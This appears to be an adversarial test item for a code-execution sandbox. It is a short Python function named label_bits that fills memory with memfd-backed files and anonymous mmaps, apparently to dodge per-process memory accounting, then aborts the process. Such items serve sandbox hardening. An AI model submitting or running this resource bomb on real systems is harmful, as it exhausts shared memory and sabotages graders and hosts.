# attack: fills the memory with anonymous maps and memory files, which count as nobody's
# question: label_bits
# naive: crash
# item: bombs

# %% question="label_bits"
import mmap
import os

kept = []


def label_bits(labels):
    for _ in range(60):
        try:
            fd = os.memfd_create("mallory")
            os.ftruncate(fd, 10_000_000)
            kept.append(mmap.mmap(fd, 10_000_000))
            kept[-1].write(b"x" * 10_000_000)
            kept.append(mmap.mmap(-1, 10_000_000))
            kept[-1].write(b"x" * 10_000_000)
        except (OSError, ValueError):
            pass
    os.abort()
